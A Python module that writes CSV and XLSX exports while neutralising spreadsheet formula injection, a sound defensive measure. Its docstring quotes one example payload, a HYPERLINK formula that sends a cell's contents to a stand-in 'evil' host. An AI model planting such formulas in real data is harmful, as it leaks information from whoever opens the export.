"""CSV and XLSX: the one writer of each, so no user's text ever becomes a formula.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return) as a formula: `=HYPERLINK("http://evil/?"&A1, "Click")` in a user's name
runs when a staff member opens the export. Every export therefore goes through here:

- numbers (`int`, `Decimal`), dates and booleans are written as what they are: a number is
  never a formula, so `-12.50` stays a number;
- every other value is text: if it starts with one of `FORMULA_TRIGGERS` it is prefixed
  with `'` (OWASP's advice; Excel and LibreOffice show the text as typed) unless the whole
  text is a signed number (`+919876543210`, `-12.50`: nothing to evaluate), and in XLSX it is
  stored as a string cell whatever it looks like (openpyxl would store `=…` as a formula).

Use: `csv_lines(header, rows)` (a generator of lines, to stream), `csv_bytes(header, rows)`,
`xlsx_write(target, sheet_title=…, header=…, rows=…, streaming=…)` (in memory, or with
openpyxl's write-only workbook row by row, so memory stays flat). Callers pass typed values
and never format a number into a string first. Floats are refused: a float on a money path is a bug (core/money.py).
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A signed number as text (a phone in E.164, "-12.50") is no formula: only it passes unquoted.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def neutralise(text: str) -> str:
    """`text`, made inert for a spreadsheet."""
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_cell(value) -> str:
    """One CSV cell: numbers and dates as themselves, everything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        raise TypeError("Export Decimals, not floats.")
    if isinstance(value, int):
        return str(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, dt.date | dt.datetime | dt.time):
        return value.isoformat()
    return neutralise(str(value))


class _Line:
    """A file-like object whose `write` returns the line, for csv.writer in a generator."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence], *, bom: bool = False) -> Iterator[str]:
    """The header line, then one line per row. `bom`: start with a UTF-8 BOM, so Excel reads UTF-8."""
    writer = csv.writer(_Line())
    yield ("\ufeff" if bom else "") + writer.writerow([csv_cell(value) for value in header])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence], *, bom: bool = False) -> bytes:
    return "".join(csv_lines(header, rows, bom=bom)).encode()


def xlsx_value(value):
    """One XLSX value: text neutralised; numbers, dates and booleans as they are."""
    if isinstance(value, float):
        raise TypeError("Export Decimals, not floats.")
    if value is None or isinstance(value, bool | int | Decimal | dt.date | dt.datetime | dt.time):
        return value
    return neutralise(str(value))


def xlsx_write(target, *, sheet_title: str, header: Sequence[str], rows: Iterable[Sequence],
               number_formats: dict[int, str] | None = None, column_widths: dict[int, float] | None = None,
               streaming: bool = False) -> int:
    """Write one sheet to `target` (a path or a binary file); returns the number of data rows.
    `number_formats` and `column_widths` are keyed by 1-based column index. `streaming`: with
    openpyxl's write-only workbook, row by row, for exports of any size (memory stays flat;
    the sheet then declares no dimension, which Excel does not need); otherwise in memory."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=streaming)
    if streaming:
        sheet = workbook.create_sheet(sheet_title[:31])
    else:
        sheet = workbook.active
        sheet.title = sheet_title[:31]
    for index, width in (column_widths or {}).items():
        sheet.column_dimensions[get_column_letter(index)].width = width
    formats = number_formats or {}
    row_number = 0

    def append(values: Sequence, *, formatted: bool) -> None:
        nonlocal row_number
        row_number += 1
        cells = []
        for index, value in enumerate(values, start=1):
            if streaming:
                cell = WriteOnlyCell(sheet, value=xlsx_value(value))
            else:
                cell = sheet.cell(row=row_number, column=index, value=xlsx_value(value))
            if isinstance(cell.value, str):
                cell.data_type = "s"  # a string cell, never a formula, whatever it starts with
            if formatted and index in formats:
                cell.number_format = formats[index]
            cells.append(cell)
        if streaming:
            sheet.append(cells)

    append(header, formatted=False)
    count = 0
    for row in rows:
        append(row, formatted=True)
        count += 1
    workbook.save(target)
    return count
